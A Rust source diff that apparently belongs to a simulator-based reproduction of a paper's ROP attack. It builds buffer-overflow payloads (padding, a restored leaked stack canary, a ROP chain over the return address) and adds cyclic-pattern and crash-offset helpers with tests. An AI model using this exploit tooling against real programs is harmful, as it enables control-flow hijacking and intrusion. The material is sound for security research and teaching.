@@ -1,0 +1,166 @@
+//! Overflow payload construction — the paper's Listing 1.
+//!
+//! The attack string handed to the vulnerable host fills the stack buffer
+//! with padding (`'D'` bytes, as in the paper's
+//! `python -c 'print "D"*0x6C + ...'`), optionally restores the stack
+//! canary (when the adversary has leaked it — the paper notes canaries
+//! "can also be evaded"), overwrites the saved return address with the
+//! first gadget address, and appends the rest of the ROP chain.
+//!
+//! The module also ships a cyclic-pattern generator for *discovering* the
+//! return-address offset by crash probing, the standard exploit-development
+//! workflow when frame layout is unknown.
+
+use cr_spectre_sim::error::{ExitReason, Fault};
+
+/// Padding byte used by the paper's payload (`'D'`).
+pub const PAD_BYTE: u8 = 0x44;
+
+/// Magic tag in cyclic-pattern words (top three bytes spell `"Cyc"`).
+const CYCLIC_MAGIC: u64 = 0x4379_6300_0000_0000;
+const CYCLIC_TAG_MASK: u64 = 0xffff_ff00_0000_0000;
+
+/// Builder for Listing-1 style overflow payloads.
+///
+/// # Examples
+///
+/// ```
+/// use cr_spectre_rop::payload::PayloadBuilder;
+///
+/// // 100-byte buffer, return address 104 bytes in (one saved slot).
+/// let payload = PayloadBuilder::new(104).build(&[0x8000, 0xdead]);
+/// assert_eq!(payload.len(), 104 + 16);
+/// assert_eq!(&payload[104..112], &0x8000u64.to_le_bytes());
+/// ```
+#[derive(Debug, Clone)]
+pub struct PayloadBuilder {
+    offset_to_ret: usize,
+    canary: Option<(usize, u64)>,
+    pad: u8,
+}
+
+impl PayloadBuilder {
+    /// Creates a builder for a frame whose saved return address lives
+    /// `offset_to_ret` bytes past the start of the overflowed buffer.
+    pub fn new(offset_to_ret: usize) -> PayloadBuilder {
+        PayloadBuilder { offset_to_ret, canary: None, pad: PAD_BYTE }
+    }
+
+    /// Restores a known canary `value` at `offset` (bytes past the buffer
+    /// start) so the epilogue check passes despite the overflow.
+    pub fn with_canary(mut self, offset: usize, value: u64) -> PayloadBuilder {
+        assert!(offset + 8 <= self.offset_to_ret, "canary must precede the return slot");
+        self.canary = Some((offset, value));
+        self
+    }
+
+    /// Overrides the padding byte.
+    pub fn with_pad(mut self, pad: u8) -> PayloadBuilder {
+        self.pad = pad;
+        self
+    }
+
+    /// Serializes padding + (canary) + chain words into the attack string.
+    pub fn build(&self, chain_words: &[u64]) -> Vec<u8> {
+        let mut out = vec![self.pad; self.offset_to_ret];
+        if let Some((off, value)) = self.canary {
+            out[off..off + 8].copy_from_slice(&value.to_le_bytes());
+        }
+        for w in chain_words {
+            out.extend_from_slice(&w.to_le_bytes());
+        }
+        out
+    }
+}
+
+/// Generates `len` bytes of a cyclic probe pattern whose 8-byte words are
+/// position-tagged, for locating the return-address offset from a crash.
+pub fn cyclic(len: usize) -> Vec<u8> {
+    let mut out = Vec::with_capacity(len);
+    let mut k: u64 = 0;
+    while out.len() < len {
+        let word = CYCLIC_MAGIC | k;
+        out.extend_from_slice(&word.to_le_bytes());
+        k += 1;
+    }
+    out.truncate(len);
+    out
+}
+
+/// Recovers the byte offset encoded in a cyclic-pattern word, if `value`
+/// is one.
+pub fn cyclic_find(value: u64) -> Option<usize> {
+    if value & CYCLIC_TAG_MASK == CYCLIC_MAGIC {
+        Some(((value & 0xffff_ffff) * 8) as usize)
+    } else {
+        None
+    }
+}
+
+/// Extracts the return-address offset from the exit of a cyclic-probe run:
+/// the hijacked `RET` lands on a pattern word, so the run dies fetching
+/// from that address.
+pub fn offset_from_crash(exit: &ExitReason) -> Option<usize> {
+    match exit {
+        ExitReason::Fault(Fault::Mem(f)) => cyclic_find(f.addr),
+        ExitReason::Fault(Fault::Decode { pc }) => cyclic_find(*pc),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cr_spectre_sim::mem::{AccessKind, MemFault};
+
+    #[test]
+    fn payload_layout() {
+        let p = PayloadBuilder::new(24).build(&[0x1111, 0x2222]);
+        assert_eq!(p.len(), 24 + 16);
+        assert!(p[..24].iter().all(|&b| b == PAD_BYTE));
+        assert_eq!(&p[24..32], &0x1111u64.to_le_bytes());
+        assert_eq!(&p[32..40], &0x2222u64.to_le_bytes());
+    }
+
+    #[test]
+    fn canary_is_planted() {
+        let p = PayloadBuilder::new(24).with_canary(16, 0xaabb_ccdd).build(&[0x1]);
+        assert_eq!(&p[16..24], &0xaabb_ccddu64.to_le_bytes());
+        assert!(p[..16].iter().all(|&b| b == PAD_BYTE));
+    }
+
+    #[test]
+    #[should_panic(expected = "precede the return slot")]
+    fn canary_after_ret_panics() {
+        let _ = PayloadBuilder::new(16).with_canary(16, 0);
+    }
+
+    #[test]
+    fn custom_padding() {
+        let p = PayloadBuilder::new(8).with_pad(0x41).build(&[]);
+        assert_eq!(p, vec![0x41; 8]);
+    }
+
+    #[test]
+    fn cyclic_round_trip() {
+        let pat = cyclic(256);
+        assert_eq!(pat.len(), 256);
+        // Word at byte offset 40 is word #5.
+        let w = u64::from_le_bytes(pat[40..48].try_into().unwrap());
+        assert_eq!(cyclic_find(w), Some(40));
+        assert_eq!(cyclic_find(0x1234), None);
+    }
+
+    #[test]
+    fn cyclic_truncates_to_odd_lengths() {
+        assert_eq!(cyclic(13).len(), 13);
+    }
+
+    #[test]
+    fn offset_from_fetch_fault() {
+        let word = u64::from_le_bytes(cyclic(96)[88..96].try_into().unwrap());
+        let exit = ExitReason::Fault(Fault::Mem(MemFault { addr: word, kind: AccessKind::Fetch }));
+        assert_eq!(offset_from_crash(&exit), Some(88));
+        assert_eq!(offset_from_crash(&ExitReason::Halted), None);
+    }
+}
